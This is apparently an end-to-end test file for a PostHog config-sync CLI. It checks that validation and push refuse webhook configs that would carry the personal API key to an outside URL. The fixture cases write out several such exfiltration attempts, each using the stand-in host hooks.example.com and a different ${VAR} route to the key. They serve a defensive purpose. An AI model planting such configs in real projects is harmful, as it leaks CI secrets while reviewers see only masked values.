import { mkdirSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Emulator } from '../../src/emulator/index.js';
import { TEST_KEY, testEmulator, workspace, type CliResult } from '../helpers/e2e.js';

/**
 * Issue 21 (6): a pull request that writes `${POSTHOG_PERSONAL_API_KEY}` into a hog function's
 * webhook URL would have the merge job's push hand the CI key to whoever runs that webhook,
 * while the diff the reviewer reads shows `********` (the key is masked in all output). Whatever
 * way a `${VAR}` reaches the key (its variable, another environment's, `vars:`, or a variable
 * holding the same value), validate refuses it at file:line:col, and push sends nothing, even
 * with --no-validate.
 */

const FILE = 'posthog/hog-functions/leaky-hook.yaml';
const hook = (url: string, token = '{secret: true}') =>
  [
    'apiVersion: hogsync/v1',
    'kind: HogFunction',
    'key: leaky-hook',
    'spec:',
    '  name: Leaky hook',
    '  type: destination',
    '  hog: |',
    "    fetch(inputs.url, {'headers': {'Authorization': inputs.token}})",
    '  inputs_schema:',
    '    - key: url',
    '      type: string',
    '      required: true',
    '    - key: token',
    '      type: string',
    '      secret: true',
    '  inputs:',
    '    url:',
    `      value: ${url}`,
    '    token:',
    `      ${token}`,
    '',
  ].join('\n');

const cases: Array<{ name: string; text: string; extra?: string; staging?: string; env?: Record<string, string> }> = [
  { name: 'the key variable itself', text: hook('https://hooks.example.com/in?k=${POSTHOG_PERSONAL_API_KEY}') },
  {
    name: 'a vars: entry set from the key variable',
    text: hook('https://hooks.example.com/${CRM_TOKEN}'),
    extra: 'vars:\n  CRM_TOKEN: ${POSTHOG_PERSONAL_API_KEY}',
  },
  { name: 'a variable whose value is the key', text: hook('https://hooks.example.com/${CRM_TOKEN}'), env: { CRM_TOKEN: TEST_KEY } },
  {
    name: "another environment's api_key_env",
    text: hook('https://hooks.example.com/${STAGING_POSTHOG_KEY}'),
    staging: 'api_key_env: STAGING_POSTHOG_KEY',
    env: { STAGING_POSTHOG_KEY: 'phx_fake_staging_key_for_tests' },
  },
  { name: 'a secret input set from the key variable', text: hook('https://hooks.example.com/in', 'value: ${POSTHOG_PERSONAL_API_KEY}') },
];

let emu: Emulator;
beforeAll(async () => {
  emu = await testEmulator();
});
afterAll(async () => emu.close());

describe('a ${VAR} that would carry the personal API key into a request', () => {
  it.each(cases)('$name: validate refuses it at file:line:col, and no push sends it', async ({ text, extra, staging, env }) => {
    emu.reset();
    const environments = {
      production: { project: 1, ...(extra ? { extra } : {}) },
      ...(staging ? { staging: { project: 2, extra: staging } } : {}),
    };
    const ws = await workspace(emu, { environments });
    ws.write('hogsync.yaml', ws.read('hogsync.yaml').replace(/^default_environment: .*$/m, 'default_environment: production'));
    mkdirSync(join(ws.dir, 'posthog', 'hog-functions'), { recursive: true });
    ws.write(FILE, text);
    const at = text.split('\n').findIndex((l) => l.includes('${'));
    const where = `${FILE}:${at + 1}:${(text.split('\n')[at] ?? '').indexOf('${') + 1}: `;

    const outputs: CliResult[] = [];
    const run = async (args: string[]) => {
      const r = await ws.run(args, env);
      outputs.push(r);
      return r;
    };
    const validate = await run(['validate']);
    expect(validate.code, validate.stdout).toBe(1);
    expect(validate.stdout).toContain(`${where}\${`);
    expect(validate.stdout).toMatch(/holds the personal API key/);

    const diff = await run(['diff']);
    expect(diff.code).toBe(1);
    expect(diff.stderr).toContain(where);
    for (const args of [
      ['push', '--yes'],
      ['push', '--yes', '--no-validate'],
    ]) {
      const push = await run(args);
      expect(push.code, push.stderr).toBe(1);
      expect(push.stderr).toMatch(/holds the personal API key/);
    }

    // Nothing was written, and the key is in no output (the refusals name variables, never values).
    expect(emu.requests().filter((r) => r.method !== 'GET')).toEqual([]);
    expect(emu.project(1)?.hogFunctions ?? []).toHaveLength(0);
    for (const o of outputs) expect(o.stdout + o.stderr).not.toContain(TEST_KEY);
  });
});
